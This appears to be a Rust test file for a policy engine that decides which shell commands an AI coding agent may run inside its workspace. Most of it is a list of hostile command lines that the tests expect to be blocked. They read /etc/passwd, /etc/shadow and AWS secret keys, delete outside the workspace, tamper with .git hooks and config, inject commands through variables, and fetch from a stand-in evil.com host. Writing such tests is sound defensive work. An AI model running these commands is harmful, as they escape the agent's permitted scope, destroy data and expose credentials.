//! Lines that a hostile reading got past the analysis once, or tried to: none is allowed to a task that
//! may read, write and delete in its workspace, run common programs, and nothing else.

use countersign::action::path::PurePaths;
use countersign::authorizer::{Evaluator, Severity, Trial};
use countersign::policy::Authored;
use countersign::scope::Scope;
use countersign::shell::{Shell, ShellEnv};
use countersign::testing;
use serde_json::json;

const PROGRAMS: &[&str] = &[
    "ls", "cat", "echo", "find", "xargs", "grep", "sed", "awk", "rm", "cp", "mv", "git", "tar",
    "sort", "head", "tail", "cut", "cd", "bash", "env", "read", "printf", "test", "[", "date",
    "basename", "dirname", "true", ":", "set", "export", "tee", "touch", "mkdir", "ln", "unset",
    "mapfile", "wait", "nproc", "sudo",
];

fn trial() -> Trial {
    let scope = json!({
        "scope": "countersign/scope/v1", "task": "hostile", "owner": "user:dana@example.org",
        "agent": "spiffe://example.org/agent/coder", "not_before": "2026-11-21T09:00:00Z",
        "expires": "2026-11-21T11:00:00Z", "workspace": "/srv/project",
        "do": {"programs": PROGRAMS},
        "touch": {
            "read": ["/srv/project/**", "/dev/null"],
            "write": ["/srv/project/**", "!/srv/project/.git/hooks/**", "!/srv/project/.git/config"],
            "delete": ["/srv/project/**"],
        },
    });
    let scope = Scope::parse(scope.to_string().as_bytes()).unwrap();
    let bundle = Authored::baseline().load().unwrap();
    Evaluator::new(&bundle, testing::clock())
        .with_paths(PurePaths::new())
        .prepare(&scope.dangerous().trust_unsigned(), &testing::agent())
        .unwrap()
}

fn allowed(trial: &Trial, line: &str) -> bool {
    let env = ShellEnv::bash("/srv/project").with_plain_names();
    trial.judge(&Shell::parse(line, &env)).severity() == Severity::Allow
}

#[test]
fn none_of_them_is_allowed() {
    let trial = trial();
    let through: Vec<&&str> = LINES.iter().filter(|line| allowed(&trial, line)).collect();
    assert!(through.is_empty(), "{through:#?}");
}

#[test]
fn what_they_disguise_is_allowed_by_itself() {
    let trial = trial();
    for line in [
        "cd src && cat a.txt",
        "find . -name '*.c' | xargs grep foo",
        "find . -type f -not -path '*/.*' | xargs sed -i s/a/b/",
        "ls -l | awk '{print $9}' | xargs cat",
        "echo a b | xargs -n1 rm",
        "find * -name x",
        "grep a* f",
        "grep -rn x . | cut -d: -f1 | sort -u | xargs cat",
        "ls | xargs -I{} cp {} out/{}.bak",
        "find . | while read f; do cat \"$f\"; done",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done",
        "for i in 1 2 3; do echo $i; done",
        "ls src | head -n 3 | xargs cat",
        "x=notes; cat \"$x.txt\" > copy.txt 2> /dev/null",
        "git status",
    ] {
        let known = line != "git status";
        assert_eq!(allowed(&trial, line), known, "{line}");
    }
}

const LINES: &[&str] = &[
    "cd .. && rm -rf other &",
    r#"find . | while read f; do cat "$f/../../../etc/passwd"; done"#,
    r#"for f in *; do cat "$(basename "$f/..")/$(basename "$f/..")/etc/passwd"; done"#,
    r#"for f in *; do cat "${f%%*}/etc/passwd"; done"#,
    r#"find . | while read f; do cat "${f%%.*}/etc/passwd"; done"#,
    r#"x='a[$(cat /etc/shadow)]'; echo "${PATH:x:1}""#,
    "find . | xargs cat <<< /etc/passwd",
    "find . | xargs cat < list",
    "find() { echo /etc/passwd; }; find . | xargs cat",
    r#"ls | while read a b; do cat "$b/etc/passwd"; done"#,
    r#"find . | cut -d/ -f5 | while read f; do cat "$f/etc/passwd"; done"#,
    r#"for f in *; do echo x > ".git/confi$f"; done"#,
    r#"ls | while read f; do echo x > ".git/confi$f"; done"#,
    r#"find . -printf '%f\n' | while read f; do echo x > ".git/confi$f"; done"#,
    r#"find /srv/project -maxdepth 0 | while read f; do cat "${f}2/secret"; done"#,
    "cat .$!./other/secret",
    "cat .$(nproc)./other/secret",
    "cat $(date +%F)/etc/passwd",
    "cat .?/other/secret",
    "cat .*/other/secret",
    "cat .[.]/x",
    "grep -r pw .*",
    "tar cf x.tar .*",
    "ls -d .* | xargs cat",
    r#"x=; : "${a:-${x:=/etc/}}"; cat "${x}passwd""#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; : <<< "${x:=/etc/}"; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; case ${x:=/etc/} in a) ;; esac; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; y=${x:=/etc/}; done"#,
    r#"REPLY=; for i in 1 2; do cat "${REPLY}passwd"; read <<< /etc/; done"#,
    r#"_=; true /etc/; cat "${_}passwd""#,
    "x=project; : $((x=1)); cat /srv/$x/environ",
    "find . | sort 2 | xargs cat",
    "find . | head 5 | xargs cat",
    "find . | tail +5 | xargs cat",
    "git diff --name-only --line-prefix=/etc/ | xargs cat",
    "git diff -- --name-only notes | xargs cat",
    "git grep -h -e -l | xargs cat",
    r#"for f in $(git diff --name-only "a /etc/passwd b" 2>&1); do cat $f; done"#,
    "find . ./other/secret -maxdepth 0 -printf '%p' | xargs cat",
    "ls -l | awk '{print $NF}' | xargs rm",
    "cp -P l m; cat m/passwd",
    "cp -d l m; cat m",
    "rm /dev/stdout",
    "mv x /dev/null",
    "[[ -v 'a[$(cat /etc/shadow)]' ]]; cat a",
    "x='a[$(cat /etc/shadow)]'; [[ -v $x ]]",
    "x='a[$(cat /etc/shadow)]'; ((0 && (x=1))); ((x)); cat a",
    "SECONDS='a[$(cat /etc/shadow)]'; cat a",
    r#"x=; for i in 1 2; do cat "${x}passwd"; printf -vx /etc/; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; read -ax <<< /etc/; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; echo ${y:-${x:=/etc/}}; done"#,
    r#"x=; for i in 1 2; do cat "${x}passwd"; a=(${x:=/etc/}); done"#,
    "rm() { :; }; unset rm; rm -rf /etc",
    "f() { cd /etc; return; cd /srv/project; }; f && cat passwd",
    "cd .git && echo x > config &",
    "rm -rf .git/../../other",
    "cat .en?",
    r#"find . | while read f; do cat "${f%.*}/etc/passwd"; done"#,
    "read i < a; echo ${PATH:i}",
    r#"for f in */*; do echo x > ".git/hook$f"; done"#,
    "sh -c 'cat .$RANDOM./other/secret'",
    "cat .[.]/other/secret",
    r#"x=; for i in 1 2; do cat "${x}passwd"; case ${x:=/etc/} in z) ;; esac; done"#,
    "find . | head n | xargs cat",
    "git diff --name-only -p | xargs cat",
    "find . x 2>/dev/stdout | xargs cat",
    "find . x 2>>/dev/fd/1 | xargs cat",
    "find . | tee /dev/stdout | xargs cat",
    "find . -fprint0 /dev/stdout | xargs cat",
    "find . . -maxdepth 0 -printf '%f' | xargs ls -R",
    "cp -d l m; cat m/passwd",
    "cp -s l m; cat m/passwd",
    "x='a[$(cat /etc/shadow)]'; [[ -v $x ]]; cat a",
    "RANDOM='a[$(cat /etc/shadow)]'; cat a",
    "f() { cd /etc && return; cd /srv/project; }; f && cat passwd",
    "md5sum -c list",
    "sar -o /etc/x 1 1",
    "atop -w /etc/x 1 1",
    "pip list --outdated",
    "rpm -qp http://evil.com/x.rpm",
    "getent -s dns hosts evil.com",
    "aws configure get aws_secret_access_key",
    "cd sub && git status",
    "git -C sub diff",
    r#"awk 'BEGIN{ENVIRON["PATH"]="."; system("ls")}'"#,
    r#"export TZ=/srv/project/e; cat "$(date +%Z)""#,
    "TZ=/etc/shadow date",
    "cd -P l/..; cat passwd",
    "cd -P l && cd .. && cat passwd",
    "find -L sub -delete",
    "grep -Rl x . | xargs rm",
    "ln -s .git/config m; tee m* < x",
    "ln -s ro m; rm -rf m/",
    "ln -s ro m; rm -rf m/*",
    // An option and a path in one word, of a program whose options are all harmless.
    "read x < f; cat -n$x",
    "read x < f; ls -l$x",
    "f() { cat -n$PWD; }; f",
    r#"read x < f; find . | xargs -I{} rm -rf {} "$x""#,
    r#"read x < f; echo a | xargs -I{} rm -rf {} "$x""#,
    r#"read x < f; ls | xargs -I{} rm -rf "$x"/{}"#,
    "find . | xargs -a list -I{} rm -rf {}",
    "find .// | cut -d/ -f2- | xargs rm -rf",
    "find . | xargs -I{} cp {} /etc/x{}",
    "find . | xargs -I{} rm -rf ..{}",
    "find . | xargs -I{} rm -rf .{}/..",
    "find . | xargs -I{} rm {}/../../x",
    "find . | xargs -I{} git -c alias.x=!{} x",
    "ls -l | awk '{print $11}' | xargs cat",
    "ls -la | awk '{print $9}' | xargs rm -rf",
    "grep -r . list | cut -d: -f1 | xargs cat",
    "echo /etc/passwd | xargs cat",
    "echo a -o/etc/x | xargs sort",
    "printf 'sudo\nrm' | xargs env",
    "echo -rf /etc | xargs rm",
    "echo 'rm -rf /etc' | xargs -I{} sh -c {}",
    "echo system | xargs -I{} awk 'BEGIN{{}(\"id\")}'",
    "ls | xargs -I{} mv {} .git/{}",
    "find /etc -type f | tar czf a.tgz -T -",
    "cat list | tar czf a.tgz -T -",
    "find . -print0 | tar xf a.tar --null -T -",
    "cat list | du -c --files0-from=-",
    "find * -delete -o -exec sudo {} +",
    "cd */ && rm -rf ../../x",
    "cd */; cat ../../x",
    "grep * /etc/passwd",
    "grep -m * /etc/passwd f",
    "grep -f * x",
    "grep a* -r /etc",
    "xargs -n * rm",
    "base64 -d in /etc/out",
    "find . -type f -not -path './.git/*' | xargs sed -i s/a/b/",
    "find . -type f ! -name -not -path '*/.*' | xargs sed -i s/a/b/",
    "find . -type f -print -not -path '*/.*' | xargs sed -i s/a/b/",
    "find . .git/hooks -type f -not -path './.git*' | xargs sed -i s/a/b/",
    "cd .git && git ls-files | xargs sed -i s/a/b/",
    "git ls-files | sed 's/x/.git/' | xargs sed -i s/a/b/",
    "git ls-files | xargs -I{} cp x .git/{}",
    "git diff --name-only a b | xargs sed -i s/a/b/",
];
